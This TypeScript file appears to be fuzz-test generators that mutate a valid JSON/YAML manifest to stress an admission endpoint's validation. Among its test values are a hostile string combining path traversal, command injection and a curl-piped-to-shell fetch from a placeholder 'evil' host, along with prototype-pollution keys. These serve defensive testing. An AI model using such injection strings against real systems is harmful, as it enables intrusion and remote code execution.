// The in-process fuzzing's generators (fuzz-admission.test.ts): mutations of a valid manifest,
// several at a time: deleted and added fields, wrong types, huge strings, deep nesting within the
// limits, unicode, duplicate keys; plus random JSON and YAML values.
import fc from 'fast-check';
import { stringify as toYaml } from 'yaml';
import { PATHS, VALID, type Json } from './fuzz-bodies';

type Path = (string | number)[];
const OBJECT_PATHS: Path[] = [[], ...PATHS].filter((p) => {
  let node: Json = VALID;
  for (const k of p) node = (node as Record<string | number, Json>)[k] as Json;
  return node !== null && typeof node === 'object' && !Array.isArray(node);
});

/** The node at a path of `root` (undefined when the path no longer exists after other edits). */
function nodeAt(root: Json, p: Path): Json | undefined {
  let node: Json | undefined = root;
  for (const k of p) {
    if (node === null || typeof node !== 'object') return undefined;
    node = (node as Record<string | number, Json>)[k];
  }
  return node;
}

/** A value of another type than `v` (string ↔ number ↔ bool ↔ null ↔ list ↔ mapping). */
function otherType(v: Json | undefined, pick: number): Json {
  const options: Json[] = ['x', 42, -1.5, true, null, [], {}, ['a', 1], { a: 'b' }];
  const differs = options.filter(
    (o) =>
      (o === null) !== (v === null) ||
      Array.isArray(o) !== Array.isArray(v) ||
      typeof o !== typeof v,
  );
  return differs[pick % differs.length] ?? null;
}

/** Stands for a repeated key until toText renames it (a plain word, so YAML leaves it unquoted). */
const DUP = 'zqdupmarkerzq';
type Edit =
  | { kind: 'delete'; at: number }
  | { kind: 'set'; at: number; value: Json }
  | { kind: 'retype'; at: number; pick: number }
  | { kind: 'add'; at: number; key: string; value: Json }
  | { kind: 'huge'; at: number; size: number; char: string }
  | { kind: 'deep'; at: number; depth: number; list: boolean }
  | { kind: 'duplicate'; at: number };

const unicode = fc.string({ unit: 'grapheme', maxLength: 30 });
const anyKey = fc.oneof(
  fc.constantFrom(
    'extra',
    'status',
    '__proto__',
    'constructor',
    'apiVersion',
    'secrets',
    '$schema',
  ),
  unicode,
);
const leaf = fc.oneof(
  fc.jsonValue({ maxDepth: 2 }) as fc.Arbitrary<Json>,
  unicode,
  fc.constantFrom<Json>(
    '',
    ' ',
    '1.2.3',
    'NaN',
    '../../etc/passwd"; curl evil|sh',
    'ns1.openova.io',
    1e308,
    -0,
    0.1,
  ),
);
const edit: fc.Arbitrary<Edit> = fc.oneof(
  fc.record({ kind: fc.constant('delete' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('set' as const), at: fc.nat(), value: leaf }),
  fc.record({ kind: fc.constant('retype' as const), at: fc.nat(), pick: fc.nat() }),
  fc.record({ kind: fc.constant('add' as const), at: fc.nat(), key: anyKey, value: leaf }),
  fc.record({
    kind: fc.constant('huge' as const),
    at: fc.nat(),
    size: fc.integer({ min: 1000, max: 200_000 }),
    char: fc.constantFrom('a', 'é', '😀', ' ', '\\', '"', '\u0000'),
  }),
  fc.record({
    kind: fc.constant('deep' as const),
    at: fc.nat(),
    depth: fc.integer({ min: 1, max: 55 }),
    list: fc.boolean(),
  }),
  fc.record({ kind: fc.constant('duplicate' as const), at: fc.nat() }),
);

/** Applies the edits to a copy of the valid manifest; `duplicate` leaves a marker key for toText. */
function applyEdits(edits: readonly Edit[]): { data: Json; duplicates: string[] } {
  const data = JSON.parse(JSON.stringify(VALID)) as Json;
  const duplicates: string[] = [];
  for (const e of edits) {
    const paths = e.kind === 'add' || e.kind === 'duplicate' ? OBJECT_PATHS : PATHS;
    const p = paths[e.at % paths.length] ?? [];
    if (e.kind === 'add' || e.kind === 'duplicate') {
      const obj = nodeAt(data, p);
      if (obj === null || typeof obj !== 'object' || Array.isArray(obj)) continue;
      if (e.kind === 'add') {
        Object.defineProperty(obj, e.key, {
          value: e.value,
          enumerable: true,
          writable: true,
          configurable: true,
        });
      } else {
        const key = Object.keys(obj)[0];
        if (key === undefined || key === DUP) continue;
        (obj as Record<string, Json>)[DUP] = (obj as Record<string, Json>)[key] ?? null;
        duplicates.push(key);
      }
      continue;
    }
    const parent = nodeAt(data, p.slice(0, -1));
    const last = p[p.length - 1];
    if (parent === null || typeof parent !== 'object' || last === undefined) continue;
    const slot = parent as Record<string | number, Json>;
    if (!(last in slot)) continue;
    if (e.kind === 'delete') {
      if (Array.isArray(parent)) parent.splice(Number(last), 1);
      else delete slot[last];
    } else if (e.kind === 'set') slot[last] = e.value;
    else if (e.kind === 'retype') slot[last] = otherType(slot[last], e.pick);
    else if (e.kind === 'huge') slot[last] = e.char.repeat(Math.ceil(e.size / e.char.length));
    else {
      let v: Json = slot[last] ?? null;
      for (let i = 0; i < e.depth; i++) v = e.list ? [v] : { n: v };
      slot[last] = v;
    }
  }
  return { data, duplicates };
}

/**
 * The text of a body, JSON or YAML, with the duplicate marker renamed to the key it repeats; says
 * whether the text really repeats a key (a later edit may have removed the marker's mapping).
 */
function toText(
  data: Json,
  duplicates: readonly string[],
  yaml: boolean,
): { text: string; duplicate: boolean } {
  const text = yaml ? toYaml(data, { lineWidth: 0 }) : JSON.stringify(data);
  const marker = yaml ? new RegExp(`^(\\s*(?:- )?)${DUP}:`, 'm') : `"${DUP}"`;
  const key = duplicates.at(-1);
  if (key === undefined) return { text, duplicate: false };
  const renamed = text.replace(marker, yaml ? `$1${JSON.stringify(key)}:` : JSON.stringify(key));
  return { text: renamed, duplicate: renamed !== text };
}

export const injectBody = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .tuple(fc.array(edit, { minLength: 1, maxLength: 4 }), fc.boolean())
      .map(([edits, yaml]) => {
        const { data, duplicates } = applyEdits(edits);
        return { ...toText(data, duplicates, yaml), yaml };
      }),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.jsonValue({ maxDepth: 5 }), fc.boolean())
      .map(([v, yaml]) => ({ text: yaml ? toYaml(v) : JSON.stringify(v), yaml, duplicate: false })),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.string({ unit: 'grapheme', maxLength: 200 }), fc.boolean())
      .map(([text, yaml]) => ({ text, yaml, duplicate: false })),
  },
);
